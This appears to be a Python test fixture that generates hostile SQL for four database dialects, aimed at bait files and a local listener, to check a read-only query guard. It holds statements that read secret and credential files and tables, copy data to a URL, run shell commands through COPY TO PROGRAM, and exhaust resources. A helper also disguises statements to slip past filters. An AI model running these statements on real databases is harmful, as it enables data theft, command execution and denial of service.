"""Statements that mean harm, in four dialects: what each would do if it could, and how it hides."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

DIALECTS = ("sqlite", "duckdb", "postgres", "mysql")

BOMB_REASONS = frozenset({"refused", "parse", "error", "timeout", "memory", "crashed", "too_many_rows"})
WALL_REASONS = frozenset({"refused", "parse"})


@dataclass(frozen=True, slots=True)
class Hostile:
    """One statement.

    Attributes:
        family: what kind of harm.
        reasons: with which it may be turned down.
    """

    dialect: str
    family: str
    sql: str
    reasons: frozenset[str]


@dataclass(frozen=True, slots=True)
class Bait:
    """What the statements are after.

    Attributes:
        folder: with `secret.csv`, and where files would be written.
        port: of a listener on this machine.
    """

    folder: Path
    port: int

    @property
    def secret(self) -> Path:
        return self.folder / "secret.csv"

    @property
    def loot(self) -> Path:
        return self.folder / "loot"

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/loot"


def _common() -> dict[str, list[str]]:
    return {
        "write": [
            "INSERT INTO t VALUES (1, 'x')",
            "INSERT INTO t SELECT i, s FROM t",
            "UPDATE t SET s = 'x'",
            "DELETE FROM t",
            "DELETE FROM t WHERE i IN (SELECT i FROM t)",
            "REPLACE INTO t VALUES (1, 'x')",
            "MERGE INTO t USING t AS u ON t.i = u.i WHEN MATCHED THEN DELETE",
            "WITH x AS (SELECT 1 AS i) INSERT INTO t SELECT i, 'x' FROM x",
            "WITH x AS (SELECT 1 AS i) DELETE FROM t WHERE i IN (SELECT i FROM x)",
            "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
            "WITH x AS (INSERT INTO t VALUES (1, 'x') RETURNING *) SELECT * FROM x",
            "WITH x AS (UPDATE t SET s = 'x' RETURNING *) SELECT count(*) FROM x",
            "EXPLAIN ANALYZE DELETE FROM t",
            "EXPLAIN INSERT INTO t VALUES (1, 'x')",
            "SELECT * INTO u FROM t",
            "SELECT * FROM t FOR UPDATE",
            "TRUNCATE TABLE t",
        ],
        "ddl": [
            "CREATE TABLE u (i INTEGER)",
            "CREATE TABLE u AS SELECT * FROM t",
            "CREATE VIEW u AS SELECT * FROM t",
            "CREATE INDEX u ON t (i)",
            "CREATE UNIQUE INDEX u ON t (i)",
            "CREATE TRIGGER u AFTER INSERT ON t BEGIN DELETE FROM t; END",
            "CREATE SCHEMA u",
            "CREATE SEQUENCE u",
            "CREATE FUNCTION f() RETURNS INTEGER AS 'SELECT 1'",
            "ALTER TABLE t ADD COLUMN x INTEGER",
            "ALTER TABLE t RENAME TO u",
            "DROP TABLE t",
            "DROP TABLE IF EXISTS t",
            "DROP VIEW IF EXISTS u",
            "ANALYZE t",
            "VACUUM",
            "REINDEX t",
            "COMMENT ON TABLE t IS 'x'",
            "GRANT ALL ON t TO PUBLIC",
        ],
        "temporary": [
            "CREATE TEMP TABLE u AS SELECT * FROM t",
            "CREATE TEMPORARY TABLE u (i INTEGER)",
            "CREATE TEMP VIEW u AS SELECT * FROM t",
            "CREATE TEMP TRIGGER u AFTER INSERT ON t BEGIN SELECT 1; END",
            "INSERT INTO temp.u VALUES (1)",
        ],
        "transaction": ["BEGIN", "BEGIN IMMEDIATE", "COMMIT", "ROLLBACK", "SAVEPOINT x", "RELEASE x", "END"],
        "prepared": ["PREPARE p AS DELETE FROM t", "EXECUTE p", "DEALLOCATE p"],
        "several": [
            "SELECT 1; DROP TABLE t",
            "SELECT 1;; DELETE FROM t",
            "SELECT ';' ; DROP TABLE t",
            "SELECT 1 /* ; */ ; UPDATE t SET s = 'x'",
            "SELECT 1 -- ;\n; DELETE FROM t",
            "BEGIN; DELETE FROM t; COMMIT",
        ],
    }


def _sqlite(bait: Bait) -> dict[str, list[str]]:
    return {
        "attach": [
            f"ATTACH DATABASE '{bait.loot}' AS x",
            f"ATTACH '{bait.secret}' AS x",
            "ATTACH ':memory:' AS x",
            "DETACH DATABASE main",
            f"VACUUM INTO '{bait.loot}'",
            f"VACUUM main INTO '{bait.loot}'",
        ],
        "settings": [
            "PRAGMA journal_mode = WAL",
            "PRAGMA query_only = OFF",
            "PRAGMA writable_schema = ON",
            "PRAGMA user_version = 7",
            "PRAGMA trusted_schema = ON",
            "PRAGMA hard_heap_limit = 0",
            "PRAGMA temp_store = FILE",
            f"PRAGMA temp_store_directory = '{bait.folder}'",
            "PRAGMA wal_checkpoint(TRUNCATE)",
            "PRAGMA optimize",
            "PRAGMA database_list",
        ],
        "functions": [
            f"SELECT load_extension('{bait.loot}.so')",
            f"SELECT readfile('{bait.secret}')",
            f"SELECT writefile('{bait.loot}', 'x')",
            f"SELECT edit('x', 'touch {bait.loot}')",
            f"SELECT s FROM t WHERE writefile('{bait.loot}', s) > 0",
            "SELECT fts3_tokenizer('simple')",
            "SELECT sqlite_compileoption_used('x')",
            "SELECT randomblob(1000000000)",
            "SELECT zeroblob(1000000000)",
            "SELECT last_insert_rowid(), changes()",
        ],
        "catalog": [
            "SELECT * FROM sqlite_master",
            "SELECT * FROM sqlite_schema",
            "SELECT * FROM main.sqlite_master",
            "SELECT * FROM pragma_database_list",
            "SELECT * FROM pragma_database_list()",
            "SELECT * FROM pragma_table_info('t')",
            "SELECT * FROM pragma_query_only",
            "SELECT * FROM dbstat",
            "SELECT * FROM temp.sqlite_master",
        ],
    }


def _duckdb(bait: Bait) -> dict[str, list[str]]:
    reading = ("read_csv", "read_csv_auto", "read_parquet", "read_json", "read_json_auto", "read_text", "read_blob")
    return {
        "attach": [
            f"ATTACH '{bait.loot}' AS x",
            f"ATTACH '{bait.loot}' AS x (READ_WRITE)",
            f"ATTACH '{bait.url}' AS x",
            "ATTACH ':memory:' AS x",
            "DETACH x",
            "USE memory",
            f"EXPORT DATABASE '{bait.loot}'",
            f"IMPORT DATABASE '{bait.folder}'",
            "CHECKPOINT",
            "FORCE CHECKPOINT",
        ],
        "copy": [
            f"COPY t TO '{bait.loot}'",
            f"COPY (SELECT * FROM t) TO '{bait.loot}' (FORMAT parquet)",
            f"COPY t FROM '{bait.secret}'",
            f"COPY (SELECT 1) TO '{bait.url}'",
            "COPY FROM DATABASE shop TO memory",
        ],
        "extension": [
            "INSTALL httpfs",
            "LOAD httpfs",
            f"LOAD '{bait.loot}.duckdb_extension'",
            f"INSTALL x FROM '{bait.url}'",
            "FORCE INSTALL json",
            "UPDATE EXTENSIONS",
        ],
        "settings": [
            "SET threads = 8",
            "SET GLOBAL threads = 8",
            "SET memory_limit = '100GB'",
            "SET enable_external_access = true",
            "SET lock_configuration = false",
            f"SET temp_directory = '{bait.folder}'",
            f"SET home_directory = '{bait.folder}'",
            "SET VARIABLE x = 1",
            "RESET threads",
            "PRAGMA threads = 8",
            "PRAGMA database_list",
            f"PRAGMA enable_profiling; PRAGMA profiling_output = '{bait.loot}'",
            f"SET profiling_output = '{bait.loot}'",
            "CALL enable_logging()",
            "CALL pragma_version()",
            "CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')",
            "CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')",
        ],
        "files": [
            *(f"SELECT * FROM {name}('{bait.secret}')" for name in reading),
            *(f"SELECT * FROM {name}('{bait.url}')" for name in reading),
            f"SELECT * FROM '{bait.secret}'",
            f"FROM '{bait.secret}'",
            f"SELECT * FROM '{bait.url}.csv'",
            f"SELECT * FROM glob('{bait.folder}/*')",
            f"SELECT * FROM sniff_csv('{bait.secret}')",
            f"SELECT * FROM parquet_metadata('{bait.secret}')",
            f"SELECT (SELECT content FROM read_text('{bait.secret}'))",
            f"SELECT * FROM t WHERE s IN (SELECT column0 FROM read_csv('{bait.secret}'))",
            f"SELECT * FROM query('COPY t TO ''{bait.loot}''')",
            f"SELECT * FROM query('SELECT * FROM read_csv(''{bait.secret}'')')",
            "SELECT * FROM query_table('t')",
        ],
        "environment": [
            "SELECT getenv('HOME')",
            "SELECT getenv('OPENAI_API_KEY')",
            "SELECT current_setting('home_directory')",
            "SELECT current_setting('memory_limit')",
            "SELECT getvariable('x')",
            "SELECT version()",
            "SELECT current_database(), current_user",
            "SELECT txid_current()",
            "SELECT nextval('u')",
        ],
        "catalog": [
            "SELECT * FROM duckdb_settings()",
            "SELECT * FROM duckdb_secrets()",
            "SELECT * FROM duckdb_databases()",
            "SELECT * FROM duckdb_functions()",
            "SELECT * FROM duckdb_temporary_files()",
            "SELECT * FROM information_schema.tables",
            "SELECT * FROM pg_catalog.pg_class",
            "SELECT * FROM system.information_schema.tables",
            "SHOW TABLES",
            "DESCRIBE t",
            "SUMMARIZE t",
        ],
    }


def _postgres(bait: Bait) -> dict[str, list[str]]:
    return {
        "copy": [
            f"COPY t TO '{bait.loot}'",
            f"COPY t FROM '{bait.secret}'",
            f"COPY t TO PROGRAM 'touch {bait.loot}'",
            f"COPY (SELECT 1) TO PROGRAM 'touch {bait.loot}'",
        ],
        "functions": [
            f"SELECT pg_read_file('{bait.secret}')",
            f"SELECT pg_read_binary_file('{bait.secret}')",
            f"SELECT pg_ls_dir('{bait.folder}')",
            f"SELECT lo_import('{bait.secret}')",
            f"SELECT lo_export(1, '{bait.loot}')",
            "SELECT lo_create(1)",
            "SELECT pg_sleep(1000)",
            "SELECT pg_terminate_backend(1)",
            "SELECT pg_cancel_backend(1)",
            "SELECT pg_reload_conf()",
            "SELECT pg_advisory_lock(1)",
            "SELECT set_config('statement_timeout', '0', false)",
            "SELECT current_setting('data_directory')",
            f"SELECT dblink('host=127.0.0.1 port={bait.port}', 'SELECT 1')",
            "SELECT query_to_xml('DELETE FROM t', true, true, '')",
            "SELECT pg_stat_reset()",
            "SELECT nextval('u')",
            "SELECT setval('u', 1)",
            "SELECT inet_server_addr()",
            "SELECT current_user, session_user",
        ],
        "catalog": [
            "SELECT * FROM pg_catalog.pg_shadow",
            "SELECT * FROM pg_catalog.pg_settings",
            "SELECT * FROM information_schema.tables",
        ],
        "settings": [
            "SET statement_timeout = 0",
            "SET LOCAL statement_timeout = 0",
            "SET SESSION AUTHORIZATION postgres",
            "SET ROLE postgres",
            "SET TRANSACTION READ WRITE",
            "RESET ALL",
            "ALTER SYSTEM SET x = 1",
            "ALTER ROLE postgres SUPERUSER",
            "LOAD 'x'",
            "CREATE EXTENSION dblink",
            "DO $$ BEGIN DELETE FROM t; END $$",
            "CALL p()",
            "LOCK TABLE t",
            "LISTEN x",
            "NOTIFY x",
            "DISCARD ALL",
        ],
    }


def _mysql(bait: Bait) -> dict[str, list[str]]:
    return {
        "files": [
            f"SELECT * FROM t INTO OUTFILE '{bait.loot}'",
            f"SELECT * INTO OUTFILE '{bait.loot}' FROM t",
            f"SELECT s FROM t INTO DUMPFILE '{bait.loot}'",
            f"SELECT load_file('{bait.secret}')",
            f"LOAD DATA INFILE '{bait.secret}' INTO TABLE t",
            f"LOAD DATA LOCAL INFILE '{bait.secret}' INTO TABLE t",
        ],
        "functions": [
            "SELECT sleep(1000)",
            "SELECT benchmark(1000000000, md5('x'))",
            "SELECT get_lock('x', 1000)",
            "SELECT sys_exec('touch x')",
            "SELECT @@datadir",
            "SELECT @@global.secure_file_priv",
            "SELECT @x := 1",
            "SELECT i INTO @x FROM t",
            "SELECT current_user()",
            "SELECT version()",
            "SELECT connection_id()",
        ],
        "catalog": [
            "SELECT * FROM mysql.user",
            "SELECT * FROM information_schema.tables",
            "SELECT * FROM performance_schema.threads",
            "SHOW DATABASES",
            "SHOW GRANTS",
        ],
        "settings": [
            "SET GLOBAL general_log = 1",
            "SET SESSION max_execution_time = 0",
            "SET @x = 1",
            "FLUSH TABLES",
            "KILL 1",
            "LOCK TABLES t WRITE",
            "HANDLER t OPEN",
            "INSTALL PLUGIN x SONAME 'x.so'",
            "CALL p()",
            "DO sleep(1000)",
            "USE mysql",
            "PURGE BINARY LOGS BEFORE '2000-01-01'",
            "SHUTDOWN",
        ],
    }


def _bombs(dialect: str) -> dict[str, list[str]]:
    many = ", ".join(f"t AS t{i}" for i in range(8))
    repeated = "s"
    for _ in range(40):
        repeated = f"replace({repeated}, 'x', 'xxxxxxxx')"
    doubled = "s"
    for _ in range(40):
        doubled = f"({doubled} || s || {'s' if len(doubled) > 10_000 else doubled})"
    bombs = {
        "recursion": [
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r",
            "WITH RECURSIVE r(n) AS (SELECT 'x' UNION ALL SELECT n || n FROM r) SELECT max(length(n)) FROM r",
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION SELECT n + 1 FROM r) SELECT sum(n) FROM r",
        ],
        "cross join": [
            f"SELECT count(*) FROM {many} WHERE t0.i + t7.i < 0",
            f"SELECT t0.i FROM {many}",
            f"SELECT DISTINCT t0.s, t1.s, t2.s FROM {many}",
            f"SELECT t0.s FROM {many} ORDER BY t0.s || t1.s || t2.s",
            f"SELECT t0.i, count(*) FROM {many} GROUP BY t0.i, t1.i, t2.i",
        ],
        "text": [
            f"SELECT max(length({repeated})) FROM t",
            f"SELECT max(length({doubled})) FROM t AS a, t AS b, t AS c",
            f"SELECT group_concat(t0.s, ',') FROM {many}",
        ],
        "pattern": [
            "SELECT count(*) FROM t AS a, t AS b, t AS c WHERE a.s || b.s || c.s LIKE '%a%a%a%a%a%a%a%a%a%a%b'",
            f"SELECT '{'a' * 30_000}' LIKE '{'%a' * 20_000}%b'",
        ],
        "nesting": [
            f"SELECT {'(' * 5_000}1{')' * 5_000}",
            f"SELECT {'-' * 1}{'- ' * 5_000}1",
            f"SELECT {'NOT ' * 5_000}1",
            f"SELECT {'abs(' * 3_000}1{')' * 3_000}",
            f"SELECT {' + '.join(['1'] * 20_000)}",
            f"SELECT * FROM {'(SELECT * FROM ' * 1_000}t{') AS x' * 1_000}",
            " UNION ALL ".join(["SELECT 1"] * 3_000),
            f"SELECT CASE {'WHEN 1 = 2 THEN 3 ' * 10_000} END",
        ],
        "literal": [
            f"SELECT '{'x' * 5_000_000}'",
            f"SELECT {'9' * 100_000}",
            f"SELECT i FROM t WHERE i IN ({', '.join(map(str, range(50_000)))})",
            f"SELECT {', '.join(['1'] * 30_000)}",
        ],
    }
    if dialect == "sqlite":
        bombs["text"] += ["SELECT printf('%.*c', 1000000000, 'x')", "SELECT hex(zeroblob(400000000))"]
        bombs["json"] = [
            f"SELECT json('{'[' * 50_000}{']' * 50_000}')",
            "SELECT json_group_array(a.s) FROM t a, t b, t c",
        ]
    if dialect == "duckdb":
        bombs["text"] += [
            "SELECT length(repeat('x', 4000000000))",
            "SELECT max(length(repeat(s, 100000000))) FROM t",
            "SELECT lpad('x', 2000000000, 'y')",
            "SELECT printf('%2000000000d', 1)",
            "SELECT format('{:>2000000000}', 1)",
        ]
        bombs["rows"] = [
            "SELECT * FROM range(100000000000)",
            "SELECT count(DISTINCT r.range) FROM range(100000000000) AS r",
            "SELECT unnest(range(1000000000))",
            "SELECT len(list(a.s)) FROM t AS a, t AS b, t AS c",
            "SELECT * FROM generate_series(1, 100000000000)",
        ]
        bombs["pattern"] += ["SELECT regexp_matches(repeat('a', 100000), '(a*)*(a*)*(a*)*b')"]
        bombs["json"] = [f"SELECT json('{'[' * 50_000}{']' * 50_000}')"]
    return bombs


def _hidden(sql: str) -> Iterator[str]:
    """Yield ways to write a statement that a careless check would not see through."""
    yield sql
    yield sql.swapcase() if "'" not in sql else sql.replace("SELECT", "sElEcT")
    yield f"/* SELECT 1 */ {sql}"
    yield f"-- SELECT 1\n{sql}"
    yield sql.replace(" ", "/**/", 1)
    yield sql.replace(" ", "\n\t", 3)
    yield f"{sql};"
    yield f"SELECT 1; {sql}"
    yield f"{sql}; SELECT 1"
    yield f"\ufeff{sql}"
    yield f"({sql})"


def statements(bait: Bait) -> list[Hostile]:
    """Return all statements, each once."""
    found: dict[tuple[str, str], Hostile] = {}
    own = {"sqlite": _sqlite, "duckdb": _duckdb, "postgres": _postgres, "mysql": _mysql}
    for dialect in DIALECTS:
        for family, written in [*_common().items(), *own[dialect](bait).items()]:
            for sql in written:
                for hidden in _hidden(sql):
                    found.setdefault((dialect, hidden), Hostile(dialect, family, hidden, WALL_REASONS))
        for family, written in _bombs(dialect).items():
            for sql in written:
                found.setdefault((dialect, sql), Hostile(dialect, family, sql, BOMB_REASONS))
    return list(found.values())
